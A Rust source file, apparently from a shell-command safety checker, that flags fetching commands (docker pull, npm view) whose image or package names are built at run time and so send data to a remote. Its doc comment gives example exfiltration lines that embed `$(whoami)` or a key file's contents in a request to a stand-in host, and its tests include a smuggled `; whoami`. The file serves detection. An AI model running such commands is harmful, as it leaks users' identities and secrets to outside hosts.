//! What a fetching program's request carries: a name (an image, a package, a repository, a
//! query) built when it runs goes out with it, as a host name built at run time does.

use crate::decision::effect::Effect;
use crate::local::spec::Kind;
use crate::local::spec::options::Reading;

/// The send of a value built when it runs, in a fetching command's names: `docker pull
/// r.example.com/$(whoami)`, `npm view "x-$(cat src/key.txt)"`.
pub(super) fn built_name(r: &Reading) -> Option<Effect> {
    let w = r
        .values
        .iter()
        .find(|v| {
            carries_a_name(v.kind) && v.word.known_value().is_none() && !is_own_name(&v.word.text)
        })
        .map(|v| &v.word)?;
    Some(Effect::Send {
        what: format!(
            "`{}` is built when it runs and goes out with the request",
            crate::text::excerpt(&w.text)
        ),
        remote: true,
    })
}

/// `$(git branch --show-current)` and the like (`rules/own_names.txt`), quoted or not: the
/// current branch's name, which the remote already knows.
fn is_own_name(text: &str) -> bool {
    static OWN: std::sync::OnceLock<Vec<String>> = std::sync::OnceLock::new();
    let own = OWN.get_or_init(|| {
        crate::lists::entries(include_str!("../../../../rules/own_names.txt"))
            .map(|l| l.split_whitespace().collect::<Vec<_>>().join(" "))
            .collect()
    });
    let t = text.trim();
    let t = t
        .strip_prefix('"')
        .and_then(|t| t.strip_suffix('"'))
        .unwrap_or(t);
    let Some(inner) = t.strip_prefix("$(").and_then(|t| t.strip_suffix(')')) else {
        return false;
    };
    let inner = inner.split_whitespace().collect::<Vec<_>>().join(" ");
    own.contains(&inner)
}

/// A value a fetching program sends to its remote as part of the request: a name, a query, a
/// host, a repository (not a local path it reads or writes).
fn carries_a_name(kind: Kind) -> bool {
    matches!(kind, Kind::Text | Kind::Host | Kind::Repository | Kind::Url)
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn the_current_branch_is_the_remotes_own_name() {
        assert!(is_own_name("$(git branch --show-current)"));
        assert!(is_own_name("\"$(git  rev-parse --abbrev-ref HEAD)\""));
        assert!(!is_own_name("$(git branch --show-current; whoami)"));
        assert!(!is_own_name("$(whoami)"));
        assert!(!is_own_name("x-$(git branch --show-current)y"));
    }
}
